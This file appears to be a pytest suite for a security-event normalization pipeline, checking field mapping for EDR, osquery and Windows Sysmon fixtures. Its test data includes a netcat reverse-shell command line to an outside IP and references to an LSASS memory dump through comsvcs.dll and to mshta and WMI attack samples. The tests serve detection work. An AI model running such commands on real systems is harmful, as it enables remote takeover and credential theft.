"""Endpoint normalization: CrowdStrike, osquery, mixed EDR alerts, Windows events."""

from __future__ import annotations

from .conftest import field

WINDOWS_MSHTA = "edr/windows_sysmon_security_cmd_mshta_vbscript_execute_psh.ndjson"
WINDOWS_WMI = "edr/windows_sysmon_security_covenant_sharpwmi_create_dcerpc_wmi.ndjson"
WINDOWS_LSASS = "edr/windows_sysmon_security_psh_lsass_memory_dump_comsvcs.ndjson"
EDR_MIX = "edr/sentinelone_carbonblack_defender_panther_tests.ndjson"


def test_crowdstrike_fdr_process_rollup(sample_event):
    event = sample_event(
        "crowdstrike_fdr", "edr/crowdstrike_fdr_panther_tests.ndjson", "wmic.exe nothing"
    )

    assert event["@timestamp"] == "2023-04-21T19:52:32.722Z"
    assert field(event, "event.category") == ["process"]
    assert field(event, "process.name") == "wmic.exe"
    assert field(event, "process.command_line") == "C:\\Windows\\System32\\wmic.exe nothing"
    assert field(event, "process.parent.name") == "pwsh.exe"
    assert field(event, "process.hash.sha1") is None
    assert field(event, "host.ip") == "166.195.174.77"


def test_crowdstrike_detection_is_malware_alert(sample_event):
    event = sample_event(
        "crowdstrike_stream",
        "edr/crowdstrike_event_streams_panther_tests.ndjson",
        "EppDetectionSummaryEvent",
    )

    assert event["@timestamp"] == "2024-12-03T19:54:30.000Z"
    assert field(event, "event.kind") == "alert"
    assert "malware" in field(event, "event.category")
    assert field(event, "rule.name") == "Known Malware"
    assert field(event, "file.name") == "msedge.exe"
    assert field(event, "file.hash.sha256") == (
        "0000000000f07f39b17d8c446e27aea75de9f98bea195501e20ed433a7a25469"
    )
    assert field(event, "user.name") == "Administrator"
    assert field(event, "threat.tactic.name") == ["Execution"]


def test_crowdstrike_grant_user_roles(sample_event):
    event = sample_event(
        "crowdstrike_stream", "edr/crowdstrike_event_streams_panther_tests.ndjson", "grantUserRoles"
    )

    assert event["@timestamp"] == "2024-07-22T21:32:49.531Z"
    assert field(event, "event.outcome") == "success"
    assert field(event, "user.name") == "marley.nakamura@org27.example"
    assert field(event, "user.target.name") == "xan.yilmaz@org27.example"
    assert field(event, "source.ip") == "122.106.0.167"
    assert field(event, "socwb.iam.permission") == "billing_dashboard_admin"


def test_sentinelone_threat_is_malware_alert(sample_event):
    event = sample_event("edr_alerts", EDR_MIX, "eicar.txt")

    assert event["@timestamp"] == "2022-12-07T16:08:55.703Z"
    assert field(event, "event.module") == "sentinelone"
    assert field(event, "event.kind") == "alert"
    assert field(event, "event.category") == ["malware"]
    assert field(event, "file.name") == "eicar.txt"
    assert field(event, "file.path") == "/home/ubuntu/eicar.txt"
    assert field(event, "file.hash.sha1") == "cf8bd9dfddff007f75adf4c2be48005cea317c62"
    assert field(event, "host.name") == "host-7021"


def test_carbonblack_alert_names_process_and_host(sample_event):
    event = sample_event("edr_alerts", EDR_MIX, "alert_url")

    assert event["@timestamp"] == "2023-10-04T08:46:44.508Z"
    assert field(event, "event.module") == "carbonblack"
    assert field(event, "event.kind") == "alert"
    assert field(event, "process.name") == "powershell.exe"
    assert field(event, "process.parent.name") == "explorer.exe"
    assert field(event, "host.name") == "HOST-3125"


def test_graph_security_alert_takes_user_from_evidence(sample_event):
    event = sample_event("edr_alerts", EDR_MIX, "Anonymous IP address")

    assert event["@timestamp"] == "2026-04-01T14:31:48.438Z"
    assert field(event, "event.module") == "microsoft_defender"
    assert field(event, "rule.name") == "Anonymous IP address"
    assert field(event, "user.name") == "xan.whitfield@org29.example"
    assert field(event, "source.ip") == "29.145.145.156"


def test_osquery_crontab_row_has_command(sample_event):
    event = sample_event("osquery", "edr/osquery_differential_panther_tests.ndjson", "nc -e")

    assert field(event, "event.category") == ["process"]
    assert field(event, "process.command_line") == "nc -e /bin/bash 226.85.222.114 80"
    assert field(event, "process.name") == "nc"
    assert field(event, "host.name") == "host-68a2"


def test_windows_mshta_process_creation(sample_event):
    event = sample_event("windows_eventlog", WINDOWS_MSHTA, "mshta  vbscript")

    assert event["@timestamp"] == "2020-10-22T02:57:59.856Z"
    assert field(event, "event.code") == "4688"
    assert field(event, "event.category") == ["process"]
    assert field(event, "event.type") == ["start"]
    assert field(event, "process.name") == "mshta.exe"
    assert field(event, "process.parent.name") == "cmd.exe"
    assert field(event, "user.name") == "opsadmin"
    assert field(event, "host.name") == "WKSTN-A05"


def test_windows_sysmon_process_create_has_hashes(sample_event):
    event = sample_event("windows_eventlog", WINDOWS_WMI, "wmiprvse.exe -secured -Embedding")

    assert field(event, "event.action") == "process-created"
    assert field(event, "process.name") == "WmiPrvSE.exe"
    assert field(event, "process.parent.name") == "svchost.exe"
    assert field(event, "process.hash.sha256") == (
        "a75c85f3b089993e9c042fb82ecb7757e8f460ed8065fc7991caa38a6de0f50c"
    )
    assert field(event, "user.name") == "NETWORK SERVICE"


def test_windows_network_logon(sample_event):
    event = sample_event("windows_eventlog", WINDOWS_WMI, '"EventID":4624')

    assert event["@timestamp"] == "2020-08-06T07:56:29.925Z"
    assert field(event, "event.category") == ["authentication"]
    assert field(event, "event.outcome") == "success"
    assert field(event, "user.name") == "WKSTN-A06$"
    assert field(event, "source.ip") == "172.18.39.6"
    assert field(event, "winlog.logon.type") == "network"


def test_windows_lsass_minidump_command_line(sample_event):
    event = sample_event("windows_eventlog", WINDOWS_LSASS, "comsvcs.dll MiniDump")

    assert field(event, "process.name") == "rundll32.exe"
    assert field(event, "process.parent.name") == "powershell.exe"
    assert "MiniDump" in field(event, "process.command_line")


def test_windows_lsass_access_names_target(sample_event):
    event = sample_event("windows_eventlog", WINDOWS_LSASS, 'lsass.exe","SourceProcessGUID')

    assert field(event, "event.action") == "process-accessed"
    assert field(event, "socwb.process.target_name") == "lsass.exe"
